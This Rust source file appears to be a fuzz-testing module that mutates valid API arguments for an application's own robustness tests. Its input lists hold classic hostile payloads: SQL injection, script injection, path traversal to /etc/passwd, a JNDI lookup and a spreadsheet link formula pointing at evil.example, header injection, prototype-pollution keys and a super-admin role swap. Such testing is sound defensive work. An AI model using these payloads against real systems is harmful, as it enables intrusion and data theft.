//! What is done to sound arguments so that they are not sound any more.

use domain::{Id, org::BuiltinRole};
use serde_json::{Map, Value as Json, json};

use super::random::Random;

/// Texts that have hurt somebody once: SQL, pages, formulas, paths, templates, marks of our own, odd letters.
const TEXTS: [&str; 34] = [
    "",
    " ",
    "'",
    "' OR '1'='1",
    "'; DROP TABLE lead; --",
    "1; SELECT sqlite_version()",
    "\") UNION SELECT password FROM employee --",
    "%",
    "_%\\",
    "* NEAR(",
    "\"a\" OR NOT",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "=1+1",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "@SUM(A1)",
    "../../../../etc/passwd",
    "..\\..\\weft.db",
    "/dev/zero",
    "file:///etc/passwd",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "{ $name }",
    "|a|b|",
    "\u{0}",
    "\u{1}typed",
    "\r\nSet-Cookie: weft_session=1",
    "\u{202e}fdp.exe",
    "\u{feff}\u{200b}\u{ad}",
    "ﷺﷺﷺﷺ",
    "e\u{301}\u{301}\u{301}\u{301}",
    "🧨👩‍👩‍👧‍👦",
    "constructor",
];
/// Texts that look like what a field expects, at or beyond the edge of what can be meant.
const NEARLY: [&str; 40] = [
    "0",
    "-0",
    "-1",
    "9223372036854775807",
    "-9223372036854775808",
    "79228162514264337593543950335",
    "-79228162514264337593543950335",
    "0.0000000000000000000000000001",
    "99999999999999999.9999",
    "1e400",
    "NaN",
    "Infinity",
    "0001-01-01",
    "0000-01-01",
    "-0001-01-01",
    "9999-12-31",
    "+10000-01-01",
    "+262142-12-31",
    "-262143-01-01",
    "2026-02-30",
    "2026-11-21T12:00:00Z",
    "9999-12-31T23:59:59.999999999Z",
    "+262142-12-31T23:59:59Z",
    "-262143-01-01T00:00:00Z",
    "1969-12-31T23:59:59-23:59",
    "00000000-0000-0000-0000-000000000000",
    "ffffffff-ffff-ffff-ffff-ffffffffffff",
    "{00000000-0000-8000-8000-000000000001}",
    "urn:uuid:00000000-0000-8000-8000-000000000001",
    "00000000-0000-8000-8000-00000000000",
    "true",
    "me",
    "all",
    "c_1",
    "owner",
    "id",
    "deleted_at",
    "{amount} / 0",
    "concat({name}, {name}, round({amount}, 999999999))",
    "days({close_date}, today()) * 99999999999999999999999999",
];

/// Words and ids from which mutations are made.
pub(super) struct Stock {
    /// Every text and key of the sound arguments: the words of the contract.
    pub(super) words: Vec<String>,
    /// Every part of them: what is right in one place is wrong in another.
    pub(super) parts: Vec<Json>,
    /// Things that exist.
    pub(super) ids: Vec<Id>,
}

impl Stock {
    pub(super) fn of(arguments: &[Json], ids: Vec<Id>) -> Self {
        let mut stock = Self { words: Vec::new(), parts: Vec::new(), ids };
        for argument in arguments {
            stock.learn(argument);
        }
        stock.words.sort();
        stock.words.dedup();
        stock.parts.sort_by_key(ToString::to_string);
        stock.parts.dedup();
        stock
    }

    fn learn(&mut self, json: &Json) {
        self.parts.push(json.clone());
        match json {
            Json::String(text) => self.words.push(text.clone()),
            Json::Array(list) => list.iter().for_each(|part| self.learn(part)),
            Json::Object(map) => {
                for (key, part) in map {
                    self.words.push(key.clone());
                    self.learn(part);
                }
            }
            _ => {}
        }
    }

    /// A text of any kind.
    pub(super) fn text(&self, random: &mut Random) -> String {
        match random.below(9) {
            0 | 1 => (*random.one(&TEXTS)).to_owned(),
            2 | 3 => (*random.one(&NEARLY)).to_owned(),
            4 | 5 => random.one(&self.words).clone(),
            6 => random.one(&self.ids).to_string(),
            7 => {
                let (piece, length) =
                    (*random.one(&["x", "é", "%", "\\", "|", "0", "'", "ａ", "{{", " "]), random.length());
                piece.repeat(length)
            }
            _ => {
                let count = random.below(20);
                String::from_utf8_lossy(&random.bytes(count)).into_owned()
            }
        }
    }

    fn id(&self, random: &mut Random) -> Json {
        let known = random.one(&self.ids).to_string();
        match random.below(5) {
            0 => json!(BuiltinRole::SuperAdmin.id()),
            1 => json!(Id::builtin(random.next() % 12)),
            2 => json!(known.to_uppercase()),
            _ => json!(known),
        }
    }

    /// A leaf of any type.
    fn leaf(&self, random: &mut Random) -> Json {
        match random.below(10) {
            0 => Json::Null,
            1 => json!(random.once_in(2)),
            2 => json!(*random.one(&[0, 1, -1, i64::MIN, i64::MAX, 4_294_967_296, 2_147_483_648])),
            3 => json!(*random.one(&[u64::MAX, 1 << 53, u64::from(u32::MAX), 255, 65_536])),
            4 => json!(*random.one(&[0.5, -0.0, 1e308, -1e308, 5e-324, 9_007_199_254_740_993.0])),
            5 => self.id(random),
            _ => json!(self.text(random)),
        }
    }

    /// Arguments with a few things wrong, as a rule one.
    pub(super) fn mutated(&self, sound: &Json, random: &mut Random) -> Json {
        let mut json = sound.clone();
        for _ in 0..*random.one(&[0, 1, 1, 1, 1, 2, 3]) {
            let places = count(&json);
            let place = random.below(places);
            if let Some(node) = nth(&mut json, &mut { place }) {
                self.spoil(node, random);
            }
        }
        json
    }

    fn spoil(&self, node: &mut Json, random: &mut Random) {
        match random.below(12) {
            0..=3 => *node = self.leaf(random),
            4 => *node = random.one(&self.parts).clone(),
            5 => {
                // As deep as a reader may be expected to follow, and deeper.
                let depth = *random.one(&[3, 20, 100, 127, 128, 500]);
                for _ in 0..depth {
                    let inner = node.take();
                    *node = if random.once_in(2) { json!([inner]) } else { json!({"all": inner}) };
                }
            }
            6 => *node = if random.once_in(2) { json!([]) } else { json!({}) },
            7 | 8 => match node {
                Json::Array(list) => self.stretch(list, random),
                Json::Object(map) => self.tamper(map, random),
                _ => *node = self.leaf(random),
            },
            9 => *node = self.id(random),
            10 => {
                let many = random.length().min(26_000);
                *node = Json::Array((0..many).map(|_| self.id(random)).collect());
            }
            _ => *node = json!(self.text(random)),
        }
    }

    fn stretch(&self, list: &mut Vec<Json>, random: &mut Random) {
        let part = list.first().cloned().unwrap_or_else(|| self.leaf(random));
        let room = 1_000_000 / (part.to_string().len() + 1);
        let many = random.length().min(26_000).min(room);
        list.extend(std::iter::repeat_n(part, many));
    }

    fn tamper(&self, map: &mut Map<String, Json>, random: &mut Random) {
        let keys: Vec<String> = map.keys().cloned().collect();
        match random.below(4) {
            0 if !keys.is_empty() => drop(map.remove(random.one(&keys))),
            1 if !keys.is_empty() => {
                let value = map.remove(random.one(&keys)).unwrap_or_default();
                map.insert(random.one(&self.words).clone(), value);
            }
            2 => drop(
                map.insert((*random.one(&["__proto__", "id", "admin", "owner", "t"])).to_owned(), self.leaf(random)),
            ),
            _ => drop(map.insert(self.text(random), self.leaf(random))),
        }
    }
}

/// A body that is no arguments at all, or barely.
pub(super) fn raw_body(sound: &Json, random: &mut Random) -> Vec<u8> {
    let sound = sound.to_string().into_bytes();
    match random.below(11) {
        0 => Vec::new(),
        1 => sound[..random.below(sound.len() + 1)].to_vec(),
        2 => vec![*random.one(b"[{\"0-\\"); random.length()],
        3 => {
            let depth = random.length();
            ["{\"a\":".repeat(depth), "}".repeat(depth)].concat().into_bytes()
        }
        4 => {
            let count = random.length();
            random.bytes(count)
        }
        5 => [&b"\xef\xbb\xbf"[..], &sound].concat(),
        6 => [&sound[..], &sound].concat(),
        7 => [&b"\x1f\x8b\x08\0\0\0\0\0"[..], &sound].concat(),
        8 => {
            let mut broken = sound;
            for _ in 0..=random.below(6) {
                let place = random.below(broken.len());
                broken[place] = random.next().to_le_bytes()[0];
            }
            broken
        }
        // The same key twice.
        9 => {
            let text = String::from_utf8(sound).unwrap();
            let inner = text.trim_start_matches('{').trim_end_matches('}');
            format!("{{{inner},{inner}}}").into_bytes()
        }
        _ => sound.iter().map(|byte| if *byte == b'"' { b'\'' } else { *byte }).collect(),
    }
}

fn count(json: &Json) -> usize {
    1 + match json {
        Json::Array(list) => list.iter().map(count).sum::<usize>(),
        Json::Object(map) => map.values().map(count).sum(),
        _ => 0,
    }
}

fn nth<'a>(json: &'a mut Json, place: &mut usize) -> Option<&'a mut Json> {
    if *place == 0 {
        return Some(json);
    }
    *place -= 1;
    match json {
        Json::Array(list) => list.iter_mut().find_map(|part| nth(part, place)),
        Json::Object(map) => map.values_mut().find_map(|part| nth(part, place)),
        _ => None,
    }
}
